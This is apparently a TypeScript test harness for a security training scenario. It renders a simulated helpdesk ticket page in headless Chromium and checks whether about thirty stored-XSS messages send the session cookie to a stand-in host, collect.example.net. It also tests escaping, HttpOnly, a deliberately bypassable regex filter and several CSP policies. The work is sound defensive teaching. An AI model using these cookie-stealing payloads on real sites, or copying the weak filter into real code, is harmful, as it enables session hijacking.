/** The agent's page in a real browser: which messages really send the cookie away, and whether the simulated desk says so. */
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type Browser, chromium } from 'playwright-core'
import { atEnd } from '#scenario/clean-up'
import { loadTypeScript } from '#scenario/load-typescript'
import type { Scenario } from '#scenario/scenario'
import { MissingTool } from '#scenario/tools'

export const notRun = {
  '3-damage': 'the desk behind the session belongs to the story',
  '7-rich-text': 'no sanitizer is part of the scenario',
}

type Ticket = { number: number; subject: string; customerName: string; createdAt: Date; message: string }
type Cookie = { secure: boolean; sameSite: string; httpOnly: boolean; maxAge: number }
type Code = { agentPages: (app: unknown, config: { sessionSecret: string }) => Promise<void> }
type Desk = { render: (message: string, subject?: string) => Promise<string>; cookie: Cookie }

const entities: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' }
const escapeHtml = (text: string) => text.replaceAll(/[&<>"']/g, (sign) => entities[sign] ?? sign)

/** The page and the cookie of the code, without a session store around them. */
async function openDesk(source: string): Promise<Desk> {
  let cookie: Cookie | undefined
  let message = ''
  let subject = ''
  const ticket = (): Ticket => ({
    number: 48213,
    subject,
    customerName: 'Harbour Theatre',
    createdAt: new Date(0),
    message,
  })
  const plugins = { cookie: () => {}, session: () => {} }
  const { agentPages } = await loadTypeScript<Code>(source, {
    '@fastify/cookie': { default: plugins.cookie },
    '@fastify/session': { default: plugins.session },
    './escape-html.js': { escapeHtml },
    './tickets.js': { findTicket: async () => ticket(), markAsRead: async () => {} },
  })
  type Reply = { type: () => Reply; send: (page: string) => string }
  let route: ((request: object, reply: Reply) => Promise<string>) | undefined
  const app = {
    register: async (plugin: unknown, options?: { cookie: Cookie }) => {
      if (plugin === plugins.session) cookie = options?.cookie
    },
    addHook: () => {},
    get: (_path: string, handler: typeof route) => {
      route = handler
    },
  }
  await agentPages(app, { sessionSecret: 'of the desk' })
  const reply: Reply = { type: () => reply, send: (page) => page }
  return {
    cookie: cookie as Cookie,
    render: (text, title = 'My site is slow') => {
      message = text
      subject = title
      const request = { params: { number: '48213' }, session: { get: () => 'lena' } }
      return (route as NonNullable<typeof route>)(request, reply)
    },
  }
}

async function openBrowser(): Promise<Browser> {
  const places = [
    process.env.CHROMIUM ?? '',
    '/usr/bin/chromium',
    '/usr/bin/chromium-browser',
    '/usr/bin/google-chrome',
  ]
  const executablePath = places.find((place) => place !== '' && existsSync(place))
  if (executablePath === undefined) throw new MissingTool('Chromium')
  const browser = await chromium.launch({ executablePath, args: ['--no-sandbox'], timeout: 120_000 })
  atEnd(() => browser.close())
  return browser
}

/** What reached the server of the attacker, and what the console said. */
type Seen = { requests: string[]; errors: string[]; text: string; dialogs: number }
type Show = (desk: Desk, message: string, more?: { subject?: string; policy?: string }) => Promise<Seen>

/** Lena opens the ticket, with her session, and waits a moment. */
async function openLena(browser: Browser): Promise<Show> {
  let page = ''
  let policy = ''
  const server = createServer((request, response) => {
    response.writeHead(request.url === '/agent/tickets/48213' ? 200 : 404, {
      'content-type': 'text/html; charset=utf-8',
      ...(policy !== '' && { 'content-security-policy': policy }),
    })
    response.end(request.url === '/agent/tickets/48213' ? page : '')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  atEnd(() => server.close())
  const origin = `http://localhost:${(server.address() as AddressInfo).port}`
  return async (desk, message, more = {}) => {
    page = await desk.render(message, more.subject)
    policy = more.policy ?? ''
    const context = await browser.newContext()
    const seen: Seen = { requests: [], errors: [], text: '', dialogs: 0 }
    await context.addCookies([
      { name: 'desk_session', value: 'k7Qm2xT9vB', url: origin, httpOnly: desk.cookie.httpOnly, sameSite: 'Lax' },
    ])
    // Nothing leaves this machine: other addresses are noted and answered here.
    await context.route(
      (url) => url.origin !== origin,
      (route) => {
        seen.requests.push(route.request().url())
        return route.fulfill({ status: 200, body: '' })
      },
    )
    const tab = await context.newPage()
    tab.on('pageerror', (error) => seen.errors.push(error.message))
    tab.on('dialog', (dialog) => {
      seen.dialogs++
      return dialog.dismiss()
    })
    await tab.goto(`${origin}/agent/tickets/48213`, { waitUntil: 'load' })
    await tab.waitForTimeout(150)
    seen.text = await tab.evaluate('document.body?.innerText ?? ""').then(String, () => '')
    await context.close()
    return seen
  }
}

const steal = "fetch('https://collect.example.net/?c=' + document.cookie)"
const messages = [
  `<img src=x onerror="${steal}">`,
  `<img src=x onerror='fetch("https://collect.example.net/?c=" + document.cookie)'>`,
  '<img src=x onerror=fetch("https://collect.example.net/?c="+document.cookie)>',
  '<img src=x onerror="fetch(`https://collect.example.net/?c=${document.cookie}`)">',
  `<svg onload="${steal}">`,
  `<svg/onload="${steal}">`,
  `<body onload="${steal}">`,
  `<iframe srcdoc="<script>fetch('https://collect.example.net/?c='+parent.document.cookie)</script >"></iframe>`,
  `<iframe src="javascript:fetch('https://collect.example.net/?c='+parent.document.cookie)"></iframe>`,
  `<scr<script></script>ipt>${steal}</script >`,
  `<script>${steal}</script >`,
  `<details open ontoggle="${steal}">`,
  `<img src=x onerror="new Image().src='https://collect.example.net/?c='+document.cookie">`,
  `<script>${steal}</script>`,
  `<script>${steal}`,
  `<a href="javascript:${steal}">click</a>`,
  `<b onclick="${steal}">hello</b>`,
  `<img src=x onerror="fetch("https://collect.example.net/?c=" + document.cookie)">`,
  "<img src=x onerror=fetch('https://collect.example.net/?c=' + document.cookie)>",
  `<img src=x onerror="fetch('https://collect.example.net/')">`,
  `<img src=x onerror="fetch('https://example.net/?c=' + document.cookie)">`,
  '<img src=x onerror="alert(1)">',
  '<img src=x onerror="1 + 1">',
  '<img src="https://collect.example.net/?c=document.cookie">',
  '<img src="https://collect.example.net/">',
  '<b>hello</b>',
  steal,
  '&lt;img src=x&gt;',
  'My site is slow.',
]

const isStolen = ({ requests }: Seen) =>
  requests.some(
    (url) =>
      url.startsWith('https://collect.example.net/') && decodeURIComponent(url).includes('desk_session=k7Qm2xT9vB'),
  )

const encoded = {
  'message-markup': `
function messageMarkup(message: string): string {
  return escapeHtml(message).replace(/\\r?\\n/g, '<br>')
}`,
}
const onlyHidden = (source: string) => source.replace('httpOnly: false', 'httpOnly: true')

export async function prove(scenario: Scenario): Promise<void> {
  const { check, quote, ask } = scenario
  const show = await openLena(await openBrowser())
  const desk = await openDesk(scenario.code())
  for (const message of messages) {
    const seen = await show(desk, message)
    await check(`2-attack: ${message}`, () => {
      const { isGoal, text } = ask('2-attack', { message })
      const happened = `what really happened: ${JSON.stringify(seen)}\nwhat the step answers: ${text}`
      assert.equal(isGoal, isStolen(seen), happened)
      const error = /^> Uncaught SyntaxError: (.+)$/m.exec(text)?.[1]
      if (error !== undefined) assert.ok(seen.errors.includes(error), happened)
      assert.equal(/A dialog opens/.test(text), seen.dialogs > 0, happened)
      if (/"GET \/ HTTP/.test(text)) assert.ok(seen.requests.includes('https://collect.example.net/'), happened)
    })
  }
  await check('2-attack: what never gets into the message', async () => {
    const { text } = await show(desk, 'hello', { subject: '<b>slow</b>' })
    assert.ok(text.includes('<b>slow</b>'), text)
    assert.equal(ask('2-attack', { subject: '<b>slow</b>', message: 'hello' }).isGoal, false)
    assert.equal(ask('2-attack', { message: '' }).isGoal, false)
  })

  const safe = await openDesk(onlyHidden(scenario.code(encoded)))
  for (const message of messages) {
    const seen = await show(safe, message)
    await check(`6-again: ${message}`, async () => {
      assert.deepEqual(seen.requests, [], 'nothing is sent')
      const { isGoal } = ask('6-again', { message })
      // The goal is to send what ran before, and to see it as text.
      if (isGoal) assert.ok(seen.text.includes(message), seen.text)
      assert.ok(isGoal || !isStolen(await show(desk, message)), 'what worked before is what the goal asks for')
    })
  }
  await check('the source of the page is the one that the step shows', async () => {
    const page = await safe.render(messages[0] as string)
    assert.ok(
      page.includes(
        quote('6-again', '<div class="message">&lt;img src=x onerror=&quot;fetch(&#39;https://collect.example.net/'),
      ),
      page,
    )
  })

  await check('a hidden cookie cannot be read, and the code still runs', async () => {
    const hidden = await openDesk(onlyHidden(scenario.code()))
    const seen = await show(hidden, messages[0] as string)
    assert.equal(isStolen(seen), false)
    assert.equal(seen.requests.length, 1)
  })
  await check('a longer filter can be passed', async () => {
    const filtered = await openDesk(onlyHidden(scenario.code(filter)))
    quote('5-fix', '`<svg/onload=...>` has no space before the handler')
    const run = (message: string) => show(filtered, message).then(({ requests }) => requests.length)
    assert.equal(await run(messages[0] as string), 0, 'the first attack')
    assert.equal(await run(`<svg/onload="${steal}">`), 1)
    quote('5-fix', '`<scr<script></script>ipt>`')
    assert.equal(await run(`<scr<script></script>ipt>${steal}</script >`), 1)
  })
  await proveFramesAndPolicies(scenario, desk, show)
}

const filter = {
  'message-markup': `
function messageMarkup(message: string): string {
  const withoutScripts = message
    .replace(/<script\\b[^>]*>[\\s\\S]*?<\\/script>/gi, '')
    .replace(/<\\/?(iframe|object|embed)\\b[^>]*>/gi, '')
    .replace(/javascript:/gi, '')
    .replace(/\\son\\w+=("[^"]*"|'[^']*'|[^\\s>]*)/gi, '')
  return withoutScripts.replace(/\\r?\\n/g, '<br>')
}`,
}

async function proveFramesAndPolicies({ check, quote }: Scenario, desk: Desk, show: Show): Promise<void> {
  const attack = messages[0] as string
  const count = async (message: string, policy: string) => (await show(desk, message, { policy })).requests.length
  await check('a policy without inline code keeps the code of the ticket from running', async () => {
    assert.equal(await count(attack, quote('8-policy', "script-src 'self'; base-uri 'none'")), 0)
  })
  await check('the other policies let it run', async () => {
    const leave = `<img src=x onerror="location = 'https://collect.example.net/?c=' + document.cookie">`
    assert.ok((await count(leave, quote('8-policy', "default-src 'self' 'unsafe-inline'"))) > 0)
    const closed = quote('8-policy', "connect-src 'self'; img-src 'self'")
    assert.equal(await count(attack, closed), 0)
    quote('8-policy', "`location = 'https://collect.example.net/?c=' + document.cookie` is a third one")
    assert.ok((await count(leave, closed)) > 0)
    assert.ok((await count(attack, quote('8-policy', "frame-ancestors 'none'; form-action 'self'"))) > 0)
  })
}
